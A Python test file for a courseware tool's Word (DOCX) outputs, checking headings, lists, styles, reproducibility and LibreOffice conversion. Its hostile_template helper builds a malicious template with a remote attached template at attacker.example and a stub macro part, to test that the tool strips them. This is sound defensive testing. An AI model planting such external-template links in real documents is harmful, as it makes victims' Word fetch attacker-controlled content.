"""The Word editions: real DOCX files, opened with python-docx, audited, converted by LibreOffice.

One build of the pack-basic fixture makes the pack, the guide and the handouts; each test
reads them as a client's tools would.
"""

from __future__ import annotations

import io
import re
import shutil
import subprocess
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import docx
import pytest
from click.testing import CliRunner
from conftest import edit_file
from docx.oxml.ns import qn
from docx.shared import RGBColor
from lxml import etree, html

from mi_courseware.cli import cli
from mi_courseware.errors import Problems
from mi_courseware.pipeline.targets import load_checked
from mi_courseware.project import ProjectPaths
from mi_courseware.rendering.pack import pack_html
from mi_courseware.resolving.edition import resolve
from mi_courseware.resolving.targets import event_selection

HERE = Path(__file__).parent
FIXTURE = HERE / "projects" / "pack-basic"
EPOCH = "1800000000"
WORD = ("--only", "pack-docx", "--only", "facilitator-docx", "--only", "handouts-docx")
RELS = "{http://schemas.openxmlformats.org/package/2006/relationships}Relationship"


def build(project: Path, *args: str) -> str:
    """``mi-courseware build`` in-process; its output (fails with it when the build fails)."""
    env = {"SOURCE_DATE_EPOCH": EPOCH}
    result = CliRunner().invoke(cli, ["--project", str(project), "build", *args], env=env)
    assert result.exit_code == 0, result.output
    return result.output


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("word") / "project"
    shutil.copytree(FIXTURE, root)
    return root


@pytest.fixture(scope="module")
def built(project: Path) -> Path:
    build(project, "acme-run", *WORD)
    return project / "output" / "events" / "acme-run"


def heading_styled(paragraph) -> bool:  # type: ignore[no-untyped-def]
    """Whether a paragraph's style is a heading (Title, Heading N, or based on one)."""
    style = paragraph.style
    while style is not None:
        if style.name in ("Title", "TOC Heading") or style.name.startswith("Heading "):
            return True
        style = style.base_style
    return False


def all_paragraphs(document):  # type: ignore[no-untyped-def]
    """Every paragraph of the body, tables included, in order."""
    from docx.text.paragraph import Paragraph

    return [Paragraph(p, document._body) for p in document.element.body.iter(qn("w:p"))]


def fold(text: str) -> str:
    return " ".join(text.split())


def pack_page(facilitator: bool = False):  # type: ignore[no-untyped-def]
    """The PDF pack's HTML for the same edition, parsed."""
    problems = Problems()
    checked = load_checked(ProjectPaths(FIXTURE), problems)
    edition = resolve(checked, event_selection(checked, "acme-run"), problems)
    assert edition is not None and not problems.errors
    text, _ = pack_html(edition, facilitator=facilitator, when=datetime.now(UTC))
    page = html.fromstring(text)
    for gone in page.xpath("//nav | //svg | //*[contains(@class, 'num')] | //style | //head"):
        gone.drop_tree()  # contents (a field in Word), drawings (pictures), list numbers
    return page


def test_every_heading_of_the_pack_is_a_heading_in_the_same_order(built: Path) -> None:
    page = pack_page()
    wanted = [fold(h.text_content()) for h in page.xpath("//h1|//h2|//h3|//h4|//h5|//h6")]
    document = docx.Document(str(built / "participant-pack.docx"))
    headings = [fold(p.text) for p in all_paragraphs(document) if heading_styled(p)]
    found = iter(headings)
    missing = [h for h in wanted if not any(h == other for other in found)]
    assert not missing, f"not headings in this order: {missing}"
    assert len(wanted) > 20
    assert "Listening first" in headings and "Decisional balance" in headings


def test_every_block_of_the_packs_text_is_in_the_document(built: Path) -> None:
    page = pack_page()
    blocks = "//p|//li|//h1|//h2|//h3|//h4|//td|//th|//caption|//figcaption|//dt|//dd|//footer"
    wanted = {fold("".join(e.itertext())) for e in page.xpath(blocks)} - {""}
    document = docx.Document(str(built / "participant-pack.docx"))
    text = fold(" ".join(p.text for p in all_paragraphs(document)))
    missing = sorted(block for block in wanted if block not in text)
    assert not missing, missing
    assert len(wanted) > 80


def test_lists_are_word_lists_and_tables_repeat_their_header(built: Path) -> None:
    document = docx.Document(str(built / "participant-pack.docx"))
    numbering = document.part.numbering_part.element
    nums = {n.numId: n.abstractNumId.val for n in numbering.num_lst}
    abstract = {a.get(qn("w:abstractNumId")) for a in numbering.iter(qn("w:abstractNum"))}
    items = [p for p in all_paragraphs(document) if p.style.name.startswith("List ")]
    assert len(items) > 10
    for item in items:
        if item.style.name.startswith("List Continue"):
            continue
        numpr = item._p.pPr.numPr
        assert numpr is not None, item.text
        assert str(nums[numpr.numId.val]) in abstract
    tables = document.tables
    assert tables
    question = next(t for t in tables if t.rows[0].cells[0].text == "Question")
    assert question.rows[0]._tr.trPr.find(qn("w:tblHeader")) is not None


def test_nested_lists_nest_and_numbered_lists_start_where_the_text_says() -> None:
    from mi_courseware.loading.i18n import Translator
    from mi_courseware.project import builtin_dir
    from mi_courseware.rendering.diagrams import Palette
    from mi_courseware.rendering.docx.markdown import MarkdownWriter, TextSetup
    from mi_courseware.rendering.docx.pictures import Font
    from mi_courseware.rendering.docx.writer import WordWriter
    from mi_courseware.rendering.office_theme import colour_scheme

    theme = builtin_dir("themes") / "default"
    writer = WordWriter(colour_scheme("#0b4f6c", "#01baef", "#a23b72"), "Open Sans", "en-GB", 11)
    look = TextSetup(
        Translator([theme], "en"),
        Palette("#0b4f6c", "#01baef", "#a23b72"),
        frozenset(),
        Font(theme / "fonts", "Open Sans"),
        facilitator=False,
    )
    text = "- one\n  - two\n    1. three\n- four\n\n3. five\n4. six\n"
    MarkdownWriter(writer, look).write(text, Path("x.md"), 1)
    items = [p for p in writer.doc.paragraphs if p.text]
    levels = [int(p._p.pPr.numPr.ilvl.val) for p in items]
    assert [p.text for p in items] == ["one", "two", "three", "four", "five", "six"]
    assert levels == [0, 1, 2, 0, 0, 0]
    assert [p.style.name for p in items[:3]] == ["List Bullet", "List Bullet 2", "List Number 3"]
    numbered = writer.lists.numbering.num_having_numId(items[4]._p.pPr.numPr.numId.val)
    assert numbered.lvlOverride_lst[0].startOverride.val == 3


def test_the_guide_holds_trainer_notes_and_answers_and_the_pack_none(built: Path) -> None:
    def styled(name: str) -> dict[str, str]:
        document = docx.Document(str(built / name))
        found: dict[str, str] = {}
        for p in all_paragraphs(document):
            found[p.style.name] = found.get(p.style.name, "") + p.text
        return found

    guide, pack = styled("facilitator-guide.docx"), styled("participant-pack.docx")
    assert "TRAINER-ONLY-NOTE" in guide["Trainer Note"]
    assert "MODEL-ANSWER-TEXT" in guide["Answer"]
    assert "Keep the pace gentle." in guide["Trainer Note"]
    assert "Trainer Note" not in pack and "Answer" not in pack
    assert "TRAINER-ONLY-NOTE" not in "".join(pack.values())
    assert "Take turns to reflect." in pack["Exercise"]


def test_writing_space_is_rows_of_fixed_height_and_pictures_are_300_dpi(built: Path) -> None:
    from docx.enum.table import WD_ROW_HEIGHT_RULE
    from PIL import Image

    document = docx.Document(str(built / "handouts" / "balance.docx"))
    rows = [[(round(r.height.mm), r.height_rule) for r in t.rows] for t in document.tables]
    exact = WD_ROW_HEIGHT_RULE.EXACTLY
    assert [(9, exact)] * 3 in rows  # ::: lines n=3
    assert [(30, exact)] in rows  # ::: box height=30
    assert [(52, exact)] * 2 == rows[0][1:]  # the decisional balance's boxes to write in
    (ruler,) = document.inline_shapes
    assert ruler._inline.docPr.get("descr").startswith("How important is this change?")
    blip = ruler._inline.graphic.graphicData.pic.blipFill.blip.embed
    with Image.open(io.BytesIO(document.part.related_parts[blip].blob)) as png:
        assert png.width / ruler.width.inches >= 299


def parts_of(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def test_every_part_word_writes_is_there_and_nothing_points_outside(
    built: Path, tmp_path: Path
) -> None:
    default = tmp_path / "default.docx"
    docx.Document().save(str(default))
    # python-docx's template also has a Word 2010 copy of the styles (stylesWithEffects,
    # which Word 2013 and later no longer write) and a thumbnail of another document
    expected = set(parts_of(default)) - {"word/stylesWithEffects.xml", "docProps/thumbnail.jpeg"}
    for path in [*built.glob("*.docx"), *built.glob("handouts/*.docx")]:
        parts = parts_of(path)
        assert expected <= set(parts), expected - set(parts)
        for name, data in parts.items():
            if name.endswith(".rels"):
                for rel in etree.fromstring(data).iter(RELS):
                    assert rel.get("TargetMode") != "External", (path.name, name)
        settings = etree.fromstring(parts["word/settings.xml"])
        assert settings.find(qn("w:attachedTemplate")) is None


def test_openxml_audit_finds_no_schema_error(built: Path) -> None:
    from openxml_audit import OpenXmlValidator

    for path in [*built.glob("*.docx"), *built.glob("handouts/*.docx")]:
        result = OpenXmlValidator(max_errors=0).validate(str(path))
        assert result.is_valid and not result.errors, [str(e) for e in result.errors]


def test_styles_brand_language_and_properties(built: Path) -> None:
    document = docx.Document(str(built / "participant-pack.docx"))
    styles = {s.name for s in document.styles}
    for name in ("Exercise", "Trainer Note", "Answer", "Label", "Panel Label", "Course Table"):
        assert name in styles
    heading = document.styles["Heading 1"].element.rPr.find(qn("w:color"))
    assert heading.get(qn("w:themeColor")) == "text2"
    parts = parts_of(built / "participant-pack.docx")
    theme = etree.fromstring(parts["word/theme/theme1.xml"])
    a = "{http://schemas.openxmlformats.org/drawingml/2006/main}"
    assert theme.find(f".//{a}accent1/{a}srgbClr").get("val") == "0B4F6C"
    assert theme.find(f".//{a}minorFont/{a}latin").get("typeface") == "Open Sans"
    lang = document.styles.element.find(f"{qn('w:docDefaults')}//{qn('w:lang')}")
    assert lang.get(qn("w:val")) == "en-GB"
    core = document.core_properties
    assert core.title == "MI Basics – Participant pack"
    assert (core.author, core.subject) == ("Acme Care Trust", "MI Basics")
    assert core.created == core.modified == datetime.fromtimestamp(int(EPOCH), UTC)
    section = document.sections[0]
    assert section.different_first_page_header_footer
    first = section.first_page_header._element
    assert first.findall(f".//{qn('wp:docPr')}")[0].get("descr")  # the logo, with alt text
    pictures = document.element.body.findall(f".//{qn('wp:docPr')}")
    assert any("Precontemplation" in p.get("descr", "") for p in pictures)


def test_a_heading_style_edited_in_word_restyles_every_session(built: Path, tmp_path: Path) -> None:
    document = docx.Document(str(built / "participant-pack.docx"))
    document.styles["Heading 1"].font.color.rgb = RGBColor(0xAA, 0x11, 0x22)
    edited = tmp_path / "edited.docx"
    document.save(str(edited))
    again = docx.Document(str(edited))
    titles = {"Listening first", "Planning next steps"}
    sessions = [p for p in again.paragraphs if p.text in titles and p.style.name != "toc 1"]
    assert len(sessions) == 2
    for paragraph in sessions:
        assert paragraph.style.name == "Heading 1"
        assert all(run.font.color.rgb is None for run in paragraph.runs)  # nothing set by hand
        assert paragraph.style.font.color.rgb == RGBColor(0xAA, 0x11, 0x22)


def test_the_same_inputs_give_the_same_bytes(project: Path, built: Path, tmp_path: Path) -> None:
    output = build(project, "-v", "acme-run", *WORD)
    assert "pack-docx up to date" in output
    build(project, "acme-run", *WORD, "--out", str(tmp_path), "--force")
    for name in ("participant-pack.docx", "facilitator-guide.docx", "handouts/balance.docx"):
        again = tmp_path / "events" / "acme-run" / name
        assert again.read_bytes() == (built / name).read_bytes(), name
    with zipfile.ZipFile(built / "participant-pack.docx") as archive:
        stamp = datetime.fromtimestamp(int(EPOCH), UTC)
        assert {i.date_time[:3] for i in archive.infolist()} == {
            (stamp.year, stamp.month, stamp.day)
        }


def test_a_welsh_client_gets_welsh_proofing(project: Path) -> None:
    build(project, "basics", "--client", "cymru", "--only", "pack-docx")
    document = docx.Document(str(project / "output" / "cymru" / "basics" / "participant-pack.docx"))
    lang = document.styles.element.find(f"{qn('w:docDefaults')}//{qn('w:lang')}")
    assert lang.get(qn("w:val")) == "cy-GB"
    assert document.core_properties.language == "cy-GB"


HIDE_OPEN_SANS = """<?xml version="1.0"?><fontconfig>
<include ignore_missing="yes">/etc/fonts/fonts.conf</include>
<selectfont><rejectfont><glob>*OpenSans*</glob>
<pattern><patelt name="family"><string>Open Sans</string></patelt></pattern>
</rejectfont></selectfont><cachedir>{cache}</cachedir></fontconfig>"""


def test_libreoffice_opens_every_document_without_open_sans(built: Path, tmp_path: Path) -> None:
    if shutil.which("soffice") is None or shutil.which("pdftotext") is None:
        pytest.skip("LibreOffice Writer and poppler-utils: scripts/system-deps.sh installs them")
    files = [*sorted(built.glob("*.docx")), *sorted(built.glob("handouts/*.docx"))]
    sessions = len(pack_page().xpath("//section[@class='session']"))  # as in the PDF pack
    assert sessions == 2
    fonts = tmp_path / "fonts.conf"
    fonts.write_text(HIDE_OPEN_SANS.format(cache=tmp_path / "cache"), encoding="utf-8")
    env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "FONTCONFIG_FILE": str(fonts)}
    found = subprocess.run(["fc-match", "Open Sans"], capture_output=True, text=True, env=env)
    assert "OpenSans" not in found.stdout  # the theme's font really is missing
    subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{tmp_path / 'profile'}", "--headless",
         "--convert-to", "pdf", "--outdir", str(tmp_path), *map(str, files)],
        check=True, capture_output=True, env=env, timeout=300,
    )  # fmt: skip
    for path in files:
        pdf = tmp_path / f"{path.stem}.pdf"
        box = subprocess.run(["pdftotext", "-bbox", str(pdf), "-"], capture_output=True)
        page_words = etree.fromstring(box.stdout).iter("{http://www.w3.org/1999/xhtml}page")
        texts = []
        for page in page_words:
            width, height = float(page.get("width")), float(page.get("height"))
            words = list(page.iter("{http://www.w3.org/1999/xhtml}word"))
            for word in words:
                x0, y0 = float(word.get("xMin")), float(word.get("yMin"))
                x1, y1 = float(word.get("xMax")), float(word.get("yMax"))
                inside = x0 >= 0 and x1 <= width - 28 and y0 >= 0 and y1 <= height
                assert inside, f"{path.name}: '{word.text}' outside the page"
            texts.append(" ".join(w.text or "" for w in words))
        if path.parent.name != "handouts":
            pages = [m.group(1) for t in texts for m in [re.search(r"SESSION (\d+) ·", t)] if m]
            assert len(pages) == len(set(pages)) == sessions, path.name  # one page each
            starts = [t for t in texts if re.match(r"MI Basics (Listening first|Planning next)", t)]
            assert len(starts) == sessions, path.name  # its title first on the page


def hostile_template(source: Path, target: Path, drop_style: str | None = None) -> None:
    """A client's Word template made from a document this tool wrote: Heading 1 recoloured,
    and a remote attached template, a linked picture and macros added (as an attacker
    would); with ``drop_style``, that style taken out."""
    document = docx.Document(str(source))
    document.styles["Heading 1"].font.color.rgb = RGBColor(0xAA, 0x11, 0x22)
    if drop_style:
        gone = document.styles[drop_style].element
        gone.getparent().remove(gone)
    document.save(str(target))
    parts = parts_of(target)
    settings = etree.fromstring(parts["word/settings.xml"])
    attached = etree.SubElement(settings, qn("w:attachedTemplate"))
    attached.set(qn("r:id"), "rId1")
    parts["word/settings.xml"] = etree.tostring(settings)
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    parts["word/_rels/settings.xml.rels"] = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        f'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{kind}" '
        'Target="https://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
    ).encode()
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 not really macros"
    with zipfile.ZipFile(target, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


def test_a_clients_word_template_gives_its_styles_only(built: Path, tmp_path: Path) -> None:
    root = tmp_path / "project"
    shutil.copytree(FIXTURE, root)
    template = root / "content" / "clients" / "acme" / "reference.docx"
    hostile_template(built / "participant-pack.docx", template)
    runner = CliRunner()
    checked = runner.invoke(cli, ["--project", str(root), "validate"])
    assert checked.exit_code == 0, checked.output
    assert (
        "reference.docx:1: warning: only the styles of this Word template are used; left out: "
        "links to outside the file (attachedTemplate https://attacker.example/t.dotm), "
        "an attached template, macros"
    ) in checked.output
    build(root, "acme-run", "--only", "pack-docx")
    made = root / "output" / "events" / "acme-run" / "participant-pack.docx"
    assert b"attacker.example" not in b"".join(parts_of(made).values())
    assert "word/vbaProject.bin" not in parts_of(made)
    document = docx.Document(str(made))
    assert document.styles["Heading 1"].font.color.rgb == RGBColor(0xAA, 0x11, 0x22)
    assert document.paragraphs[-1].text  # the document is all there
    hostile_template(built / "participant-pack.docx", template, drop_style="Exercise")
    refused = runner.invoke(cli, ["--project", str(root), "validate"])
    assert refused.exit_code == 1
    assert "this Word template has no paragraph style 'Exercise'" in refused.output
    template.write_bytes(b"not a zip")
    refused = runner.invoke(cli, ["--project", str(root), "build", "acme-run", "--only", "pack"])
    assert refused.exit_code == 1
    assert "reference.docx:1: error: this Word template is not a Word document" in refused.output


def test_formats_docx_builds_the_word_editions_instead_of_the_pdfs(
    make_project,
    run_cli,  # type: ignore[no-untyped-def]
) -> None:
    course, event = "content/courses/mi-basics.yaml", "content/events/acme-2027.yaml"
    root = make_project(
        edits={
            course: [("delivery: in-person", "delivery: in-person\nformats: [docx]")],
            event: [("client: acme", "client: acme\nformats: [pdf, docx]")],
        }
    )
    result = run_cli(
        "build", "mi-basics", "--client", "acme", "--variant", "introduction", cwd=root
    )
    assert result.exit_code == 0, result.output
    folder = root / "output" / "acme" / "mi-basics-introduction"
    names = {p.name for p in folder.iterdir()}
    assert {"participant-pack.docx", "facilitator-guide.docx", "handouts"} <= names
    assert "participant-pack.pdf" not in names and "facilitator-guide.pdf" not in names
    assert "slides.pptx" in names  # the other outputs as ever
    problems = Problems()
    checked = load_checked(ProjectPaths(root), problems)
    edition = resolve(checked, event_selection(checked, "acme-2027"), problems)
    assert edition is not None and edition.formats == ("pdf", "docx")  # the event's own
    edit_file(root / event, "formats: [pdf, docx]", "formats: [docx, docx]")
    refused = run_cli("validate", cwd=root)
    assert refused.exit_code == 1
    assert "'docx' is listed twice" in refused.output


def test_diagrams_are_drawn_side_by_side_a_few_at_once_and_none_left_after_a_failure() -> None:
    from mi_courseware.rendering.docx import pictures

    font = pictures.Font(HERE.parent / "themes/default/fonts", "Open Sans")
    where = FIXTURE / "content/modules/a.md"

    def svg(n: int) -> str:
        return (
            '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20">'
            f'<rect width="{n + 1}" height="10" fill="#123456"/></svg>'
        )

    alone = pictures.diagram(svg(0), where, 8.0, font)()
    assert alone.startswith(b"\x89PNG")
    pictures._DRAWN.clear()
    results = []
    for n in range(6):
        results.append(pictures.diagram(svg(n), where, 8.0, font))
        drawing = [v for v in pictures._DRAWN.values() if not isinstance(v, bytes)]
        assert 1 <= len(drawing) <= pictures.AT_ONCE  # several at once, never more
    assert results[0]() == alone  # the same picture as drawn alone
    assert all(png().startswith(b"\x89PNG") for png in results)
    # a document that fails while diagrams are drawn leaves no child drawing
    pictures._DRAWN.clear()
    with pytest.raises(RuntimeError), pictures.drawings_stopped_on_failure():
        pending = [pictures.diagram(svg(n), where, 8.0, font) for n in range(3)]
        children = [v.process for v in pictures._DRAWN.values() if not isinstance(v, bytes)]
        assert pending and children
        raise RuntimeError("the document failed")
    assert not pictures._DRAWN
    assert all(not child.is_alive() for child in children if child is not None)
